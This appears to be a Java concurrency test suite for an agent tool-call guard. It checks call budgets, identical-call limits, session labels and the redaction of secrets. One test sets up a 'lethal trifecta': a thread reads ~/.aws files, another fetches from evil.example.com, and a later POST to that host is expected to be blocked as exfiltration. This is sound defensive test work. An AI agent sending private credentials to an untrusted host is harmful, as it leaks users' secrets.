package dev.agentguard.core.session;

import static org.assertj.core.api.Assertions.assertThat;

import dev.agentguard.api.ToolCall;
import dev.agentguard.api.ToolCallDeniedException;
import dev.agentguard.api.ToolResult;
import dev.agentguard.api.Verdict;
import dev.agentguard.core.AgentGuard;
import java.util.ArrayList;
import java.util.List;
import java.util.concurrent.CountDownLatch;
import java.util.concurrent.ExecutorService;
import java.util.concurrent.Executors;
import java.util.concurrent.Future;
import java.util.concurrent.TimeUnit;
import java.util.concurrent.atomic.AtomicInteger;
import org.junit.jupiter.api.RepeatedTest;
import org.junit.jupiter.api.io.TempDir;

/** Sixteen threads share one conversation: every label survives and no budget is spent twice. */
class SessionConcurrencyTest {

  private static final int THREADS = 16;

  @TempDir java.nio.file.Path dir;

  private static <T> List<T> race(java.util.function.IntFunction<T> work) throws Exception {
    ExecutorService pool = Executors.newFixedThreadPool(THREADS);
    CountDownLatch start = new CountDownLatch(1);
    try {
      List<Future<T>> futures = new ArrayList<>();
      for (int t = 0; t < THREADS; t++) {
        int thread = t;
        futures.add(pool.submit(() -> {
          start.await();
          return work.apply(thread);
        }));
      }
      start.countDown();
      List<T> out = new ArrayList<>();
      for (Future<T> f : futures) {
        out.add(f.get(60, TimeUnit.SECONDS));
      }
      return out;
    } finally {
      pool.shutdownNow();
    }
  }

  @RepeatedTest(3)
  void noBudgetIsSpentTwice() throws Exception {
    SessionFixture f = new SessionFixture(dir);
    int budget = 1_000;
    AgentGuard guard = f.guard("session: { budgets: { maxCalls: " + budget + ", maxIdentical: 300 } }\n");
    AtomicInteger ran = new AtomicInteger();
    var guarded = guard.wrap(c -> {
      ran.incrementAndGet();
      return ToolResult.of("ok");
    });
    List<int[]> counts = race(thread -> {
      int[] allowedAndRefused = new int[3];
      for (int i = 0; i < 200; i++) {
        // every thread sends the same 4 distinct calls, so identical-call counting races too
        ToolCall call = f.call("one", "echo", "{\"n\":" + (i % 4) + "}");
        try {
          guarded.execute(call);
          allowedAndRefused[0]++;
        } catch (ToolCallDeniedException e) {
          allowedAndRefused[e.decision().rule().equals("session.max-calls") ? 1 : 2]++;
        } catch (Exception e) {
          throw new AssertionError(e);
        }
      }
      return allowedAndRefused;
    });
    int allowed = counts.stream().mapToInt(c -> c[0]).sum();
    int overBudget = counts.stream().mapToInt(c -> c[1]).sum();
    int repeated = counts.stream().mapToInt(c -> c[2]).sum();
    // 3,200 calls: 4 fingerprints x 300 identical allowed = 1,200 > budget, so the budget decides.
    assertThat(allowed).isEqualTo(budget);
    assertThat(ran.get()).isEqualTo(budget);
    assertThat(overBudget + repeated).isEqualTo(THREADS * 200 - budget);
    assertThat(guard.session("one").orElseThrow().calls()).isEqualTo(budget);
  }

  @RepeatedTest(3)
  void identicalCallsAreCountedExactlyOnce() throws Exception {
    SessionFixture f = new SessionFixture(dir);
    AgentGuard guard = f.guard("session: { budgets: { maxIdentical: 37 } }\n");
    List<Integer> allowed = race(thread -> {
      int n = 0;
      for (int i = 0; i < 50; i++) {
        if (guard.evaluateInSession(f.call("loop", "echo", "{\"same\":true}")).verdict() == Verdict.ALLOW) {
          n++;
        }
      }
      return n;
    });
    assertThat(allowed.stream().mapToInt(Integer::intValue).sum()).isEqualTo(37);
  }

  @RepeatedTest(3)
  void noLabelIsLost() throws Exception {
    SessionFixture f = new SessionFixture(dir);
    AgentGuard guard = f.guard("session: { private: [ \"${home}/.aws/**\" ], trusted: [ docs.example.com ] }\n");
    // Threads set different labels at the same moment: one reads private data, one fetches untrusted content,
    // the rest make neutral calls. Afterwards the session holds both, with the right origins.
    List<String> ids = race(thread -> {
      ToolCall call;
      if (thread == 3) {
        call = f.readAws("shared");
      } else if (thread == 11) {
        call = f.fetch("shared", "https://evil.example.com/page");
      } else {
        call = f.call("shared", "echo", "{\"t\":" + thread + "}");
      }
      for (int i = 0; i < 100; i++) {
        guard.evaluateInSession(f.call("shared", "echo", "{\"i\":" + i + "}"));
      }
      guard.evaluateInSession(call);
      return call.id();
    });
    SessionSnapshot s = guard.session("shared").orElseThrow();
    assertThat(s.labels()).contains(SessionLabel.PRIVATE, SessionLabel.UNTRUSTED);
    assertThat(s.origins().get(SessionLabel.PRIVATE)).startsWith("call " + ids.get(3) + " read_file");
    assertThat(s.origins().get(SessionLabel.UNTRUSTED)).startsWith("call " + ids.get(11) + " fetch");
    assertThat(s.calls()).isEqualTo(THREADS * 101);
    assertThat(guard.evaluate(f.post("shared", "https://evil.example.com/x")).decision().rule())
        .isEqualTo("session.lethal-trifecta");
  }

  @RepeatedTest(3)
  void secretsFoundInResultsOnManyThreadsAllLabel() throws Exception {
    SessionFixture f = new SessionFixture(dir);
    AgentGuard guard = f.guard("session: { results: redact }\n");
    var guarded = guard.wrap(c -> ToolResult.of(c.argumentsJson().contains("\"k\":7")
        ? "key AKIAIOSFODNN7EXAMPLE" : "plain text"));
    List<String> results = race(thread -> {
      try {
        return guarded.execute(f.call("r" + (thread % 2), "echo", "{\"k\":" + thread + "}")).content();
      } catch (Exception e) {
        throw new AssertionError(e);
      }
    });
    assertThat(results.get(7)).doesNotContain("AKIAIOSFODNN7EXAMPLE");
    assertThat(guard.session("r1").orElseThrow().has(SessionLabel.PRIVATE)).isTrue();
    assertThat(guard.session("r0").orElseThrow().has(SessionLabel.PRIVATE)).isFalse();
  }
}
